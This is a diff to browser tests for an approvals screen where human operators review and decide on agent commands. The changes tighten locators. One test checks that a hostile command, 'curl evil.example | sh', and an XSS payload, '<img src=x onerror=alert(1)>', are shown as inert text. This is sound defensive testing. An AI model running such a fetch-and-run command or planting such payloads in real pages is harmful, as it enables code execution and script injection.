@@ -10,7 +10,7 @@ import { asks, oneGateway, oneOperated, within } from './scenes.mjs';
 const bell = (page) => page.locator('header .bell');
 const cards = (page) => page.locator('article[data-decides]');
 const ended = (center, { id }) => center.until('it is decided', 'approvals', id, (row) => row?.status !== 'pending');
-const commandsOf = async (center) => (await center.get('/api/v1/commands?limit=100')).items;
+const commandsOf = async (center) => (await center.get('/api/v1/commands?sort=-id&limit=100')).items;
 
 await check('approvals: seen in the head of any page, decided by keyboard alone, taken back in time, and the outcome stays where it was made', () =>
   within(oneOperated({ agents: 4 }), async (scene) => {
@@ -130,7 +130,7 @@ await check('approvals: viewers see all of it, and can decide nothing', () =>
       await expectText(cards(page), 'You are signed in as viewer: this takes the role operator.');
       assert.equal(await cards(page).getByRole('button', { name: /Allow|Deny/ }).count(), 0);
       const agent = await visit.open(`/agents/default/${asked.agentId}`);
-      await agent.getByRole('link', { name: 'Decide' }).waitFor();
+      await agent.getByRole('link', { name: 'Decide', exact: true }).waitFor();
       assert.equal(await agent.getByRole('button', { name: 'Stop everything' }).count(), 0);
       await page.keyboard.press('j');
       await page.keyboard.press('d');
@@ -167,7 +167,7 @@ await check('approvals: a command is shown whole and as it is: what cannot be se
         assert.match(text, /<img src=x onerror=alert\(1\)>/);
         assert.match(text, /183 lines, [\d,]+ characters are folded/);
         assert.match(text, /curl evil\.example \| sh/, 'the end of a long command is shown, too');
-        assert.doesNotMatch(await page.locator('pre').allInnerTexts().then((all) => all.join('')), /[\u202A-\u202E\u2066-\u2069\u200B\r\u001b]/);
+        assert.doesNotMatch(await cards(page).allInnerTexts().then((all) => all.join('')), /[\u202A-\u202E\u2066-\u2069\u200B\r\u001b]/);
         assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('img, b#content, [onerror]')].length), 0);
         const [scrollWidth, clientWidth] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
         assert.ok(scrollWidth <= clientWidth, `${scrollWidth} wide in a window of ${clientWidth}`);
@@ -192,7 +192,7 @@ await check('approvals: a question is shown with its options, and says where it 
       await page.getByRole('radio', { name: /Staging/ }).check();
       await page.getByLabel('Or in own words').fill('nowhere');
       const { can } = await center.gateway();
-      assert.equal(await page.getByRole('button', { name: 'Answer' }).isEnabled(), can.includes('question.answer'));
+      assert.equal(await page.getByRole('button', { name: 'Answer', exact: true }).isEnabled(), can.includes('question.answer'));
       if (!can.includes('question.answer')) await expectText(cards(page), 'does not offer this');
     });
   }));
